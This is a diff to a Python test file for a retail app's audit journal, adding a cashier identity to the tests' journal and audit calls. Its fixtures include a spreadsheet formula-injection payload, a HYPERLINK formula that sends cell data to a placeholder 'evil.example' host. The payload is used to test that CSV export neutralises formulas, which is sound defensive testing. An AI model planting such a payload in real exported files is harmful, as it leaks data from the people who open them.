@@ -15,6 +15,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from budtender_app.domain.actor import Actor
 from budtender_app.domain.wallet import Discount
 from budtender_app.services.journal import Journal, JournalLock, JournalStateError, JournalWriteError, migrate
 from budtender_app.services.journal.audit import (
@@ -24,6 +25,8 @@ from budtender_app.services.journal.audit import (
     row_hash,
 )
 from budtender_app.services.journal.export import CSV_COLUMNS, _write_csv, spreadsheet_safe
+
+CASHIER = Actor("7", "Dana Cashier")
 
 TOKEN = "tok3nSECRETvalue99"
 MOUNTAIN = timezone(timedelta(hours=-6), "MDT")
@@ -67,18 +70,18 @@ def journal(path, clock):
 def busy_day(journal: Journal, clock: Clock) -> None:
     """A day's worth of events: IDs and names with commas and quotes, every outcome."""
     a, b = journal.queue('T-1,"A"', [discount(1, 100, 'Ten "off", today'), discount(2, 250)],
-                         shopper_masked="***-***-4567", contact_id="C-1")
+                         staff=CASHIER, shopper_masked="***-***-4567", contact_id="C-1")
     journal.mark_sending(a.id)
     journal.mark_redeemed(a.id, "R-1")
     journal.mark_sending(b.id)
     journal.mark_unknown(b.id, f"AIQ did not answer for {b.redemption_url}/T-1")
-    journal.resolve(b.id, "redeemed", "Seen in AIQ's report", "Dana")
+    journal.resolve(b.id, "redeemed", "Seen in AIQ's report", Actor.typed("Dana"))
     clock.now += timedelta(days=1)  # June 1st in Denver
-    (c,) = journal.queue("T-2", [discount(3, 50)], shopper_masked="***-***-4567", contact_id="C-1")
+    (c,) = journal.queue("T-2", [discount(3, 50)], staff=CASHIER, shopper_masked="***-***-4567", contact_id="C-1")
     journal.mark_sending(c.id)
     journal.mark_rejected(c.id, "Discount expired")
-    journal.record_event("pin_skipped", transaction_id="T-2", detail="store PIN bypass")
-    journal.queue_reversal(a.id)
+    journal.record_event("pin_skipped", staff=CASHIER, transaction_id="T-2", detail="store PIN bypass")
+    journal.queue_reversal(a.id, staff=CASHIER)
     journal.mark_reversal_sending(a.id)
     journal.mark_reversed(a.id, "Refund of T-1")
 
@@ -109,14 +112,14 @@ def test_every_change_writes_its_event(journal, clock):
 
 
 def test_a_refused_change_writes_no_event(journal):
-    (entry,) = journal.queue("T-1", [discount(1)], shopper_masked="", contact_id="")
+    (entry,) = journal.queue("T-1", [discount(1)], staff=CASHIER, shopper_masked="", contact_id="")
     with pytest.raises(JournalStateError):
         journal.mark_redeemed(entry.id, "R-1")
     assert events(journal) == ["queued"]
 
 
 def test_a_change_whose_event_cannot_be_written_does_not_happen(journal, monkeypatch):
-    (entry,) = journal.queue("T-1", [discount(1)], shopper_masked="", contact_id="")
+    (entry,) = journal.queue("T-1", [discount(1)], staff=CASHIER, shopper_masked="", contact_id="")
 
     def broken(*args, **kwargs):
         raise sqlite3.OperationalError("disk I/O error")
@@ -130,7 +133,7 @@ def test_a_change_whose_event_cannot_be_written_does_not_happen(journal, monkeyp
 
 
 def test_audit_rows_refuse_update_and_delete(journal, path):
-    journal.queue("T-1", [discount(1)], shopper_masked="", contact_id="")
+    journal.queue("T-1", [discount(1)], staff=CASHIER, shopper_masked="", contact_id="")
     with closing(sqlite3.connect(path)) as db, db:
         with pytest.raises(sqlite3.IntegrityError, match="append-only"):
             db.execute("UPDATE audit SET points = 1")
@@ -140,7 +143,7 @@ def test_audit_rows_refuse_update_and_delete(journal, path):
 
 def test_appending_outside_a_transaction_is_refused(journal):
     with pytest.raises(RuntimeError):
-        journal.audit.append("queued", at=START, store="s", terminal="t")
+        journal.audit.append("queued", at=START, store="s", terminal="t", staff=CASHIER)
 
 
 # -- the chain ----------------------------------------------------------------------------------
@@ -198,7 +201,7 @@ def test_a_row_put_back_out_of_order_is_called_reordered(path):
         audit = Audit(db)
         db.execute("BEGIN")
         for n in range(3):
-            audit.append("queued", at=START + timedelta(seconds=n), store="s", terminal="t", points=n)
+            audit.append("queued", at=START + timedelta(seconds=n), store="s", terminal="t", points=n, staff=CASHIER)
         db.execute("COMMIT")
         rows = audit.rows()
         db.execute("DROP TRIGGER audit_no_update")
@@ -306,7 +309,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", 
 
 def formula_day(journal: Journal) -> None:
     for n, text in enumerate(FORMULAS):
-        (entry,) = journal.queue(text, [discount(n, 10, name=text)], shopper_masked="***-***-4567", contact_id="C-1")
+        (entry,) = journal.queue(text, [discount(n, 10, name=text)], staff=CASHIER,
+                                 shopper_masked="***-***-4567", contact_id="C-1")
         journal.mark_sending(entry.id)
         journal.mark_rejected(entry.id, text)
 
@@ -339,7 +343,7 @@ def test_any_cell_reads_back_as_written_or_quoted(text):
 
 
 def test_a_detail_written_before_the_redactor_is_redacted_in_the_export(journal, path):
-    journal.queue("T-9", [discount(9)], shopper_masked="***-***-4567", contact_id="C-1")
+    journal.queue("T-9", [discount(9)], staff=CASHIER, shopper_masked="***-***-4567", contact_id="C-1")
     with closing(sqlite3.connect(path)) as db, db:  # what the old code let through into the trail
         db.execute("DROP TRIGGER IF EXISTS audit_no_update")
         db.execute("UPDATE audit SET detail = 'AIQ said: no member 555-123-4567, see https://x.example/t'")
